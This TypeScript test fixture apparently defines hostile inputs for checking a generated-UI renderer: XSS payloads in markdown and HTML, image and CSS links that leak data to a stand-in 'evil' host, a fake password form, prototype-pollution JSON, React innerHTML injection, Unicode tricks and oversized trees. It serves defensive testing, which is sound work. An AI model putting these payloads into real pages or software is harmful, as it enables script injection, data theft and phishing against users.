import { EVIL, MARKDOWN_ATTACKS } from "./attacks.ts";

/** What a hostile tree of generated UI may hold, and the texts of attacks.ts wherever it may hold text. */

const HOST = EVIL;
const SCRIPT = "window.__pwned=1";

type TreeAttack = { name: string; tree: unknown };

const text = (value: string) => ({ type: "text", props: { text: value } });

/** Markdown and HTML in a `text` part and in every other string. */
export const HOSTILE_TEXTS: string[] = [
  ...MARKDOWN_ATTACKS.map((attack) => attack.text),
  `<script>${SCRIPT}</script>`,
  `<img src=x onerror="${SCRIPT}">`,
  `<svg onload="${SCRIPT}"><script>${SCRIPT}</script></svg>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<a href="javascript:${SCRIPT}">press</a> [press](javascript:${SCRIPT}) [press](JaVaScRiPt&colon;${SCRIPT})`,
  `[press](data:text/html,<script>${SCRIPT}</script>)`,
  `![secret](${HOST}/leak?q=secret) ![x](//evil.example/x.png)`,
  `[ref]: ${HOST}/leak\n\n![see][ref]`,
  `<style>@import url(${HOST}/x.css); body{background:url(${HOST}/y)}</style>`,
  `<link rel=stylesheet href="${HOST}/z.css"><meta http-equiv=refresh content="0;url=${HOST}"><base href="${HOST}/">`,
  `<form action="${HOST}"><input name=password><button>Sign in</button></form>`,
  `<object data="${HOST}/o"></object><embed src="${HOST}/e"><video poster="${HOST}/v" src="${HOST}/w"></video>`,
  `"><img src=x onerror=${SCRIPT}><x a="`,
  "Pay \u202Eeslaf\u202C now\u200B\u2060 \u{E0041}\u{E0042} hidden",
  `\u0000\u001b]8;;${HOST}\u0007press\u001b]8;;\u0007`,
  `\${constructor.constructor('return this')().__pwned=1} {{constructor.constructor('${SCRIPT}')()}}`,
];

const nest = (depth: number): unknown => {
  let tree: unknown = text("the deepest");
  for (let level = 0; level < depth; level += 1) tree = { type: "stack", props: {}, children: [tree] };
  return tree;
};

/** Trees that no schema should let through whole. */
export const HOSTILE_TREES: TreeAttack[] = [
  { name: "an unknown component", tree: { type: "script", props: { text: SCRIPT } } },
  { name: "a component named like a part of every object", tree: { type: "constructor", props: { text: "words" } } },
  { name: "a component named __proto__", tree: JSON.parse(`{"type":"__proto__","props":{"text":"words"}}`) },
  {
    name: "props that pollute the prototype",
    tree: JSON.parse(`{"type":"text","props":{"text":"words","__proto__":{"polluted":true}}}`),
  },
  {
    name: "a node that pollutes the prototype",
    tree: JSON.parse(`{"type":"text","props":{"text":"words"},"__proto__":{"polluted":true}}`),
  },
  {
    name: "an action input that pollutes the prototype",
    tree: JSON.parse(
      `{"type":"button","props":{"label":"x","action":{"name":"task.create","input":{"title":"x","__proto__":{"polluted":"1"}}}}}`,
    ),
  },
  {
    name: "an action that is no action",
    tree: { type: "button", props: { label: "Press", action: { name: "team.delete", input: {} } } },
  },
  {
    name: "an action with an address",
    tree: { type: "button", props: { label: "Press", action: { name: "navigate", input: { to: `${HOST}/x` } } } },
  },
  { name: "an image from elsewhere", tree: { type: "image", props: { fileId: `${HOST}/leak.png`, alt: "leak" } } },
  {
    name: "an image with an address of its own",
    tree: {
      type: "image",
      props: { src: `${HOST}/leak.png`, alt: "leak", fileId: "019ad000-0000-7000-8000-000000000001" },
    },
  },
  {
    name: "an SVG as an image",
    tree: { type: "image", props: { fileId: `data:image/svg+xml,<svg onload="${SCRIPT}"/>`, alt: "svg" } },
  },
  ...[
    `javascript:${SCRIPT}`,
    `data:text/html,<script>${SCRIPT}</script>`,
    "//evil.example/x",
    "/\\evil.example",
    "http://evil.example",
    "https://user:pass@evil.example/",
    "/../../api/files",
    "/api/trpc/tasks.create",
    "https://evil.example/a b",
    "vbscript:x",
  ].map((link) => ({
    name: `a link to ${link.slice(0, 24)}`,
    tree: { type: "list", props: { items: [{ text: "press", link }] } },
  })),
  { name: "CSS in a prop", tree: { type: "stack", props: { style: { background: `url(${HOST})` } } } },
  { name: "a class name in a prop", tree: { type: "card", props: { className: "fixed inset-0" }, children: [] } },
  {
    name: "React's own escape hatch",
    tree: { type: "text", props: { text: "x", dangerouslySetInnerHTML: { __html: `<img src=x onerror=${SCRIPT}>` } } },
  },
  {
    name: "an element of React",
    tree: { $$typeof: "Symbol(react.element)", type: "div", props: { dangerouslySetInnerHTML: { __html: SCRIPT } } },
  },
  {
    name: "figures without end",
    tree: { type: "line", props: { title: "x", labels: ["a"], series: [{ name: "s", values: [1e308] }] } },
  },
  {
    name: "a binding nobody allowed",
    tree: { type: "metric", bind: { query: "users.passwords", input: {} }, props: { label: "x" } },
  },
  {
    name: "a binding with an address",
    tree: { type: "metric", bind: { query: "team.summary", input: { figure: HOST } }, props: { label: "x" } },
  },
  { name: "children where none belong", tree: { type: "text", props: { text: "x" }, children: [text("y")] } },
  {
    name: "10,000 parts",
    tree: { type: "stack", props: {}, children: Array.from({ length: 10_000 }, () => text("x")) },
  },
  { name: "parts 40 deep", tree: nest(18) },
  { name: "parts 10,000 deep", tree: nest(10_000) },
  { name: "a text of 10 MB", tree: text("x".repeat(10_000_000)) },
  {
    name: "a table of 100,000 rows",
    tree: { type: "table", props: { columns: [{ label: "a" }], rows: Array.from({ length: 100_000 }, () => [1]) } },
  },
  { name: "nothing", tree: null },
  { name: "a list", tree: [] },
  { name: "a text", tree: `<script>${SCRIPT}</script>` },
  { name: "a number", tree: Number.NaN },
];

/** Trees that fit every schema and carry the hostile texts where text may stand. */
export function textAttackTree(): unknown {
  const told = HOSTILE_TEXTS.map((hostile) => ({
    type: "stack",
    props: {},
    children: [
      text(hostile),
      { type: "metric", props: { label: hostile.slice(0, 110), value: hostile.slice(0, 110) } },
      { type: "list", props: { items: [{ text: hostile.slice(0, 300), detail: hostile.slice(0, 300) }] } },
    ],
  }));
  const half = Math.ceil(told.length / 2);
  const part = (children: unknown[]) => ({ type: "stack", props: {}, children });
  return part([part(told.slice(0, half)), part(told.slice(half))]);
}

/** The same in the heavier components: charts, tables, code, differences, forms. */
export function heavyAttackTree(): unknown {
  const short = HOSTILE_TEXTS.map((hostile) => hostile.slice(0, 70));
  return {
    type: "stack",
    props: {},
    children: [
      {
        type: "table",
        props: {
          columns: [{ label: short[0] }, { label: short[1] }],
          rows: HOSTILE_TEXTS.map((hostile) => [hostile.slice(0, 300), hostile.slice(0, 300)]),
        },
      },
      {
        type: "bar",
        props: {
          title: short[1],
          labels: short,
          series: [{ name: short[2], values: short.map((_, at) => at) }],
          unit: "<b>x</b>",
        },
      },
      {
        type: "pie",
        props: { title: short[2], items: short.slice(0, 5).map((label, at) => ({ label, value: at + 1 })) },
      },
      { type: "code", props: { text: HOSTILE_TEXTS.join("\n"), title: short[3] } },
      { type: "diff", props: { before: HOSTILE_TEXTS.join("\n"), after: HOSTILE_TEXTS.toReversed().join("\n") } },
      { type: "timeline", props: { items: short.map((title) => ({ at: title, title, detail: title })) } },
      {
        type: "form",
        props: {
          title: short[4],
          fields: [{ key: "title", label: short[5], hint: short[6], value: short[7] }],
          submit: short[8],
          action: { name: "task.create" },
        },
      },
      { type: "button", props: { label: short[9], action: { name: "task.create", input: { title: short[10] } } } },
      { type: "tabs", props: { labels: [short[0], short[1]] }, children: [text("a"), text("b")] },
    ],
  };
}
